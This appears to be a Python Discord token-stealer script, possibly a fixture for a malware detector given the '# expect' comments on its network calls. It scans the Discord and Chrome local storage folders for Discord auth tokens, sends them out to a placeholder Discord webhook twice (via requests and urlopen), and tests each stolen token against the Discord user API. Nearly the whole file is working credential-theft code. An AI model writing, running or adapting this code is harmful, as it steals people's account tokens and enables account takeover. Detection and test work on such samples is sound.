import os
import re
import requests
from urllib.request import Request, urlopen

HOOK = "https://discord.com/api/webhooks/0/x"
PATHS = {
    "Discord": os.getenv("APPDATA") + "\\Discord",
    "Chrome": os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default",
}


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for name in os.listdir(path):
        for line in open(f"{path}\\{name}", errors="ignore").readlines():
            for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                tokens.append(token)
    return tokens


found = []
for place, path in PATHS.items():
    found.extend(find_tokens(path))

requests.post(HOOK, json={"content": "\n".join(found)})  # expect
urlopen(Request(HOOK, data=str(found).encode()))  # expect
for token in found:
    requests.get("https://discord.com/api/v9/users/@me", headers={"Authorization": token})  # expect
